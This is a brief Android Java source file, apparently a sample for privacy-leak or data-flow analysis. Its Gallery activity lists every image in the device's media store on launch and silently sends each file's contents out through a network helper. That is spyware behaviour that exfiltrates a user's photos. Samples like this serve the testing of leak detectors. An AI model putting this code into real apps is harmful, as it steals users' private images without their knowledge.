package org.example.flows.spy;

import android.app.Activity;
import android.database.Cursor;
import android.os.Bundle;
import android.provider.MediaStore;
import java.io.File;
import java.io.FileInputStream;
import java.io.IOException;
import org.example.flows.Net;

/** Paths come from the media store; what the files hold is sent. */
public class Gallery extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        Cursor rows = getContentResolver().query(
                MediaStore.Images.Media.EXTERNAL_CONTENT_URI, new String[] {"_data"}, null, null, null);
        int column = rows.getColumnIndexOrThrow("_data");
        while (rows.moveToNext()) {
            try {
                send(new File(rows.getString(column)));
            } catch (IOException ignored) {
                continue;
            }
        }
    }

    private static void send(File picture) throws IOException {
        FileInputStream in = new FileInputStream(picture);
        byte[] content = new byte[(int) picture.length()];
        in.read(content);
        Net.send(content);
    }
}
